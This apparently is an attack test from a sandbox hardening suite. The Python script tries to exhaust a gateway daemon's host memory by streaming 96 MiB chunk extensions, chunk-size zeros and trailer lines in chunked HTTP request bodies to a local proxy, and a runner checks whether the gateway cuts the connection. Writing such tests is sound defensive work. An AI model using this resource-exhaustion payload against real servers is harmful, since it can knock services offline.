"""Grows the daemon's memory from inside a sandbox through the gateway's request-body parser:
after a valid head, a chunked body whose first chunk line never ends — 96 MiB of chunk
extension (";aaaa..."), then on a new connection 96 MiB of leading zeros in a chunk size, then
a trailer field line of 96 MiB. Each is one "line" the parser must see whole before it can
act, and none of it is body data, so no body limit applies. The gateway runs in spaced, outside
the sandbox's memory cgroup: whatever it buffers is the host's memory. The runner samples
spaced's RSS (verify=daemon_rss: at most +64 MiB).
Blocked when: the gateway bounds its read buffer (a chunk line, like a header line, is refused
past a few KiB: 400 and close), so the connection is cut long before 96 MiB and the daemon's
memory stays flat.
space-attack: sandbox=fresh timeout=90 verify=daemon_rss
"""
import socket
import time

MIB = 96
notes, taken = [], []
HEAD = (b"POST http://plain.example.test/echo HTTP/1.1\r\nHost: plain.example.test\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n")
for what, prefix, filler in [("chunk extension", b"3;x=", b"a"), ("chunk-size zeros", b"", b"0"),
                             ("trailer line", b"0\r\nX-T: ", b"b")]:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    block = filler * (1 << 20)
    sent = 0
    try:
        s.sendall(HEAD + prefix)
        for _ in range(MIB):
            s.sendall(block)
            sent += 1
    except OSError:
        pass
    s.settimeout(1)
    try:
        answer = s.recv(200).split(b"\r\n", 1)[0].decode("latin-1")
    except OSError:
        answer = ""
    time.sleep(0.5)  # let the runner's sampler see the daemon while it holds the line
    s.close()
    if sent >= MIB:
        taken.append("%s: the gateway took all %d MiB without refusing (%s)" %
                     (what, MIB, answer or "no answer"))
    else:
        notes.append("%s: cut after %d MiB (%s)" % (what, sent, answer or "closed"))
# The verdict on memory is the runner's (spaced's RSS); without a refusal, say what was taken.
print("BLOCKED: %s" % "; ".join(notes + [t + " — the runner checks spaced's memory"
                                         for t in taken]))
